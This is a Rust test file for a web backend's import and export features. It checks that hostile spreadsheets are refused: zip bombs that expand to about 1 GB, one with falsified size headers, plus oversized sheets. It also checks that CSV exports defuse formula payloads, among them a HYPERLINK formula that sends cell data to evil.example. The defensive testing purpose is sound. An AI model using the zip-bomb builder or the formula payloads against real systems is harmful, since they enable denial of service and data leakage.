//! Hostile files: spreadsheets built to exhaust the server — an .xlsx with cells at A1 and
//! XFD1048576, zip bombs that unzip to 1 GB with honest and with lying headers, a CSV of a
//! thousand columns — posted to both imports (dry run and for real) and to the column proposal
//! are refused with their code while `/healthz` keeps answering and the process's memory stays
//! bounded, and a normal import works afterwards. And CSV exports that would run a formula in
//! a spreadsheet program: names and reasons starting with `=`, `@` or `-` come back as text.

use std::io::{Cursor, Read};
use std::time::Duration;

use calamine::{Reader, Xlsx, open_workbook_from_rs};
use flate2::{Compress, Compression, FlushCompress, Status};
use reqwest::StatusCode;
use shared::dto::auth::Role;
use shared::dto::contract::ContractStatus;
use shared::dto::import::{ImportColumns, ImportReport};
use shared::dto::organisation::OrganisationKind;
use shared::dto::sync::SyncRecord;
use tests::dates::date;
use tests::fixture::{ContractSpec, EnclaveSpec};
use tests::records::inspection;
use tests::world::{BREWERY as HOST, KOUTER as MWB};
use tests::{Backend, TestApp, User, World, assert_error, json, on_both_backends};

on_both_backends!(
    hostile_spreadsheets_are_refused_within_limits,
    csv_exports_never_carry_a_formula
);

/// The sheet's path inside an .xlsx written by rust_xlsxwriter.
const SHEET: &str = "xl/worksheets/sheet1.xml";
/// What the bombs unzip to: 1000 pieces of about 1 MiB.
const BOMB_PIECES: usize = 1000;

const GOOD: &str =
    "Referentie;Maatwerkbedrijf;Gastorganisatie;Start;Einde;Ontvangen;Status;Reden weigering
ENC-2019-001;0123.456.749;BE 0200.000.043;2019-03-11;;2019-03-08 10:00;gemeld;
";

/// A sheet with a header cell at A1 and one cell at XFD1048576, the last cell Excel has.
fn far_cells() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Referentie").unwrap();
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    book.save_to_buffer().unwrap()
}

/// Raw deflate of `input`, ending in `flush` (a full flush leaves the output byte-aligned and
/// independent of what came before, so it can be repeated).
fn deflate(c: &mut Compress, input: &[u8], flush: FlushCompress) -> Vec<u8> {
    let start = c.total_in();
    let mut out = Vec::with_capacity(input.len() / 64 + 4096);
    loop {
        if out.len() == out.capacity() {
            out.reserve(out.capacity());
        }
        let consumed = (c.total_in() - start) as usize;
        let status = c.compress_vec(&input[consumed..], &mut out, flush).unwrap();
        let consumed = (c.total_in() - start) as usize;
        let done = match flush {
            FlushCompress::Finish => status == Status::StreamEnd,
            _ => consumed == input.len() && out.len() < out.capacity(),
        };
        if done {
            return out;
        }
    }
}

/// An .xlsx whose sheet unzips to about 1 GB of rows from a few MB: the sheet's deflate
/// stream is one compressed piece of rows repeated. With `lying`, the zip headers claim the
/// sheet is 1 KB.
fn zip_bomb(lying: bool) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet()
        .write_string(0, 0, "Referentie")
        .unwrap();
    let normal = book.save_to_buffer().unwrap();
    let mut zip = zip::ZipArchive::new(Cursor::new(normal)).unwrap();

    let head = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Referentie</t></is></c></row>"#;
    let row = b"<row><c><v>1</v></c></row>";
    let piece = row.repeat(1024 * 1024 / row.len());
    let tail = b"</sheetData></worksheet>";
    let mut c = Compress::new(Compression::best(), false);
    let mut sheet = deflate(&mut c, head, FlushCompress::Full);
    let repeated = deflate(&mut c, &piece, FlushCompress::Full);
    for _ in 0..BOMB_PIECES {
        sheet.extend_from_slice(&repeated);
    }
    sheet.extend(deflate(&mut c, tail, FlushCompress::Finish));
    let mut crc = crc32fast::Hasher::new();
    crc.update(head);
    for _ in 0..BOMB_PIECES {
        crc.update(&piece);
    }
    crc.update(tail);
    let size = head.len() + piece.len() * BOMB_PIECES + tail.len();
    assert!(size > 1_000_000_000);

    let mut entries = Vec::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().unwrap().into_owned();
        if name == SHEET {
            let declared = if lying { 1024 } else { size as u32 };
            entries.push((name, 8u16, crc.clone().finalize(), declared, sheet.clone()));
        } else {
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).unwrap();
            let len = bytes.len() as u32;
            entries.push((name, 0, crc32fast::hash(&bytes), len, bytes));
        }
    }
    zip_of(&entries)
}

/// A zip archive of (name, method, CRC-32, uncompressed size, data as stored) entries.
fn zip_of(entries: &[(String, u16, u32, u32, Vec<u8>)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    for (name, method, crc, size, data) in entries {
        let offset = out.len() as u32;
        let common = |b: &mut Vec<u8>| {
            b.extend(20u16.to_le_bytes()); // version needed
            b.extend(0u16.to_le_bytes()); // flags
            b.extend(method.to_le_bytes());
            b.extend(0u16.to_le_bytes()); // time
            b.extend(0x21u16.to_le_bytes()); // date: 1980-01-01
            b.extend(crc.to_le_bytes());
            b.extend((data.len() as u32).to_le_bytes());
            b.extend(size.to_le_bytes());
            b.extend((name.len() as u16).to_le_bytes());
            b.extend(0u16.to_le_bytes()); // extra field
        };
        out.extend(0x04034b50u32.to_le_bytes());
        common(&mut out);
        out.extend(name.as_bytes());
        out.extend(data);
        directory.extend(0x02014b50u32.to_le_bytes());
        directory.extend(20u16.to_le_bytes()); // version made by
        common(&mut directory);
        directory.extend([0u8; 10]); // comment length, disk, internal and external attributes
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let at = out.len() as u32;
    out.extend(&directory);
    out.extend(0x06054b50u32.to_le_bytes());
    out.extend([0u8; 4]); // this disk, the directory's disk
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((directory.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend(0u16.to_le_bytes()); // comment length
    out
}

/// The peak resident memory of this process (the server runs in it), in bytes.
fn peak_memory() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("/proc/self/status");
    let line = status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))
        .expect("VmHWM");
    let kib: u64 = line
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .expect("VmHWM in kB");
    kib * 1024
}

/// Posts `body` while asking `/healthz` over and over: each health answer must come, and
/// quickly, while the file is being read.
async fn post_while_healthy(
    app: &TestApp,
    token: &str,
    path: &str,
    body: Vec<u8>,
) -> reqwest::Response {
    let (client, url, token) = (
        app.client.clone(),
        format!("{}/api/imports/{path}", app.base_url),
        token.to_owned(),
    );
    let upload = tokio::spawn(async move {
        client
            .post(url)
            .bearer_auth(token)
            .body(body)
            .send()
            .await
            .expect("import request")
    });
    loop {
        let health = tokio::time::timeout(
            Duration::from_secs(10),
            app.client.get(format!("{}/healthz", app.base_url)).send(),
        )
        .await
        .unwrap_or_else(|_| panic!("/healthz did not answer within 10 s during {path}"))
        .expect("health request");
        assert_eq!(health.status(), StatusCode::OK, "health during {path}");
        if upload.is_finished() {
            return upload.await.unwrap();
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn hostile_spreadsheets_are_refused_within_limits(backend: Backend) {
    let World { app, admin, .. } = World::new(backend).await;

    let files = [
        (
            "far cells",
            far_cells(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "table_too_large",
        ),
        (
            "zip bomb",
            zip_bomb(false),
            StatusCode::PAYLOAD_TOO_LARGE,
            "archive_too_large",
        ),
        (
            "lying zip bomb",
            zip_bomb(true),
            StatusCode::PAYLOAD_TOO_LARGE,
            "archive_too_large",
        ),
    ];
    let targets = [
        "contracts?format=xlsx&dry_run=true",
        "contracts?format=xlsx",
        "contracts/columns?format=xlsx",
        "registrations?format=xlsx&dry_run=true",
        "registrations?format=xlsx",
    ];
    let before = peak_memory();
    for (what, file, status, code) in &files {
        assert!(file.len() < 10 * 1024 * 1024, "{what} fits the body limit");
        for target in targets {
            let res = post_while_healthy(&app, &admin.token, target, file.clone()).await;
            assert_eq!(res.status(), *status, "{what} to {target}");
            assert_error(res, *status, code).await;
        }
    }
    let grown = peak_memory().saturating_sub(before);
    assert!(
        grown < 512 * 1024 * 1024,
        "reading the hostile files raised the peak memory by {} MiB",
        grown / (1024 * 1024)
    );

    // A CSV gets the same limits: a thousand columns.
    let wide = format!("{}\n{}\n", "kolom;".repeat(1000), "x;".repeat(1000));
    for target in [
        "contracts?format=csv&dry_run=true",
        "contracts/columns?format=csv",
    ] {
        assert_error(
            admin
                .upload(&format!("/api/imports/{target}"), wide.clone().into_bytes())
                .await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "table_too_large",
        )
        .await;
    }

    // The server kept serving: a normal file is read and imported.
    let columns: ImportColumns = json(
        admin
            .upload("/api/imports/contracts/columns?format=csv", GOOD)
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(columns.header.len(), 8);
    let report: ImportReport = json(
        admin
            .upload("/api/imports/contracts?format=csv", GOOD)
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!((report.rows, report.added), (1, 1));
}

async fn csv_exports_never_carry_a_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let f = app.fixture();
    const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
    const SUM: &str = "@SUM(1)";
    const SUM_OF: &str = "-2+3";
    let mwb = f.organisation(OrganisationKind::Maatwerkbedrijf, SUM, Some(MWB));
    let host = f.organisation(OrganisationKind::RegularCompany, LINK, Some(HOST));
    let enclave = f.enclave(&mwb, &host, EnclaveSpec::default());
    f.contract(
        &enclave,
        ContractSpec {
            start: date("2024-03-11"),
            status: ContractStatus::Rejected,
            rejection_reason: Some(SUM_OF.into()),
            ..ContractSpec::default()
        },
    );
    let adam = app.admin().await;
    let rev = app.user("rev", Role::Reviewer, &[]).await;
    let pushed = app
        .inspector()
        .await
        .push(vec![SyncRecord::Inspection(Box::new(inspection(
            &enclave.id,
        )))])
        .await;
    assert_eq!(pushed.results.len(), 1);

    let csv = async |path: &str, user: &User| -> Vec<Vec<String>> {
        let res = user.get(path).await;
        assert_eq!(res.status(), StatusCode::OK, "{path}");
        let text = res.text().await.unwrap();
        csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let quoted = |cell: &str| format!("'{cell}");
    for (path, user) in [
        ("/api/contracts?format=csv", &adam),
        ("/api/reports/contracts?year=2024&format=csv", &adam),
        ("/api/inspections?format=csv", &rev),
    ] {
        let rows = csv(path, user).await;
        assert!(rows.len() >= 2, "{path}: {rows:?}");
        let cells: Vec<&String> = rows[1..].iter().flatten().collect();
        assert!(cells.contains(&&quoted(LINK)), "{path}: {rows:?}");
        assert!(cells.contains(&&quoted(SUM)), "{path}: {rows:?}");
        for cell in cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{path}: {cell:?} would be a formula"
            );
        }
    }
    let register = csv("/api/contracts?format=csv", &adam).await;
    assert!(register[1].contains(&quoted(SUM_OF)), "{register:?}");

    // The XLSX export writes strings, which Excel never runs: they stay as they are.
    let res = adam.get("/api/contracts?format=xlsx").await;
    let bytes = res.bytes().await.unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let sheet = book.worksheet_range("Register").unwrap();
    let texts: Vec<String> = sheet.used_cells().map(|(_, _, c)| c.to_string()).collect();
    assert!(texts.contains(&LINK.to_owned()), "{texts:?}");
    assert!(texts.contains(&SUM_OF.to_owned()), "{texts:?}");
}
